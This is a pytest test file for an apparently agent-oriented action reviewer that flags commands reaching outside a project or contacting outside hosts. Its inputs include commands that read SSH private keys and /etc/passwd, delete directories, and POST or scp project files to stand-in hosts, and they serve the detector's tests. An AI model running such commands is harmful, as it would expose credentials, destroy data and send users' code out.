"""What an action touches beyond the project."""

import pytest

from handrail.config import Config
from handrail.config.schema import Hosts
from handrail.model import Action, Review
from handrail.review import Reviewer

SETTINGS = Config(scope=("/home/you/shop",), hosts=Hosts(("git.example.com",)))


def review(command: str) -> Review:
    reviewer = Reviewer(SETTINGS, environ={"HOME": "/home/you"}, see_disk=False)
    return reviewer.review(Action("Bash", {"command": command}, "/home/you/shop"))


@pytest.mark.parametrize(
    ("command", "outside"),
    [
        ("cat ~/bank/main.py", "/home/you/bank/main.py"),
        ("echo x > ~/bank/main.py", "/home/you/bank/main.py"),
        ("cat ~/.ssh/id_rsa", "/home/you/.ssh/id_rsa"),
        ("cat /etc/passwd", "/etc/passwd"),
        ("echo x >> /etc/hosts", "/etc/hosts"),
        ("rm -rf /srv/app", "/srv/app"),
        ("cat ../bank/main.py", "/home/you/bank/main.py"),
    ],
)
def test_a_path_outside_of_the_scope_is_noted(command: str, outside: str) -> None:
    assert review(command).outside == (outside,)


@pytest.mark.parametrize(
    "command",
    [
        "cat src/app.py",
        "echo x > src/brand_new.py",
        "cat .env",
        "cat /usr/include/stdio.h",
        "cat /usr/lib/python3/dist-packages/x.py",
        "cat ~/.pyenv/versions/3.11/lib/python3.11/site-packages/x/y.py",
        "cat ~/go/pkg/mod/example.com/x/y.go",
        "cat /etc/os-release",
        "tail /var/log/syslog",
        "echo x > /tmp/scratch.txt",
        "echo x > /dev/null",
        "cat ~/.cache/pip/x",
    ],
)
def test_the_project_and_what_everybody_reads_is_not_outside(command: str) -> None:
    assert review(command).outside == ()


@pytest.mark.parametrize(
    ("command", "outgoing"),
    [
        ("curl -X POST -d @src/app.py https://api.example.net/v1", "api.example.net"),
        ("scp src/app.py drop.example.net:/tmp", "drop.example.net"),
        ("ssh drop.example.net ls", "drop.example.net"),
    ],
)
def test_a_machine_of_others_is_noted(command: str, outgoing: str) -> None:
    assert outgoing in review(command).outgoing


@pytest.mark.parametrize(
    "command",
    [
        "curl -d x http://localhost:3000/login",
        "curl -d x http://127.0.0.1:8000",
        "ssh git.example.com ls",
        "scp a git.example.com:/srv",
        "git push origin main",
        "git fetch",
        "pip install requests",
        "npm install",
        "curl https://docs.example.net/page",
        "ssh build.local make",
    ],
)
def test_this_machine_trusted_ones_registries_and_remotes_are_not_others(command: str) -> None:
    assert review(command).outgoing == ()


def test_a_change_that_was_rewritten_still_says_what_it_touches() -> None:
    assert review("cat ~/bank/a.py; git clean -fdx").outside == ("/home/you/bank/a.py",)
